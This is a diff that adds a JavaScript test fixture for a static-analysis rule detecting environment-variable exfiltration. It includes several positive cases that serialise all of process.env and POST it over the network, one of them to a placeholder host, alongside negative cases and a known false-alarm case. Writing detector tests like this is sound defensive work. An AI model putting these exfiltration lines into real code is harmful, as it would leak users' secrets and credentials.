@@ -111,3 +111,33 @@ async function endpoints(data, axios, user) {
 }
 
 module.exports = { cases, later, endpoints };
+
+// A copy of the whole environment reaching a request through variables.
+async function envCopies(url, req, axios) {
+  const snapshot = { ...process.env };
+  const blob = Buffer.from(JSON.stringify(snapshot)).toString('base64');
+  // ruleid: js.exfil.env-over-network
+  axios.post('https://e.example.invalid/collect', { blob });
+  const all = Object.assign({}, process.env);
+  // ruleid: js.exfil.env-over-network
+  req.end(JSON.stringify({ host: 'x', all }));
+  const pairs = Object.entries(process.env);
+  const lines = pairs.map(([k, v]) => k + '=' + v).join('\n');
+  // ruleid: js.exfil.env-over-network
+  await fetch(url, { method: 'POST', body: lines });
+  const childEnv = { ...process.env, NODE_ENV: 'production' };
+  // ok: js.exfil.env-over-network
+  require('child_process').spawn('node', ['build.js'], { env: childEnv });
+  const env = { ...process.env };
+  // ok: js.exfil.env-over-network
+  await fetch(url, { method: 'POST', body: JSON.stringify({ port: process.env.PORT }) });
+  // ok: js.exfil.env-over-network
+  axios.post(url, { tool: 'x', version: '1.0.0' });
+  const names = Object.keys(process.env).length;
+  // A known false alarm: the variable env above also matches the property
+  // name env of process.env (the pattern engine's <... $S ...>).
+  // todook: js.exfil.env-over-network
+  req.end(JSON.stringify({ names }));
+  return env;
+}
+module.exports.envCopies = envCopies;
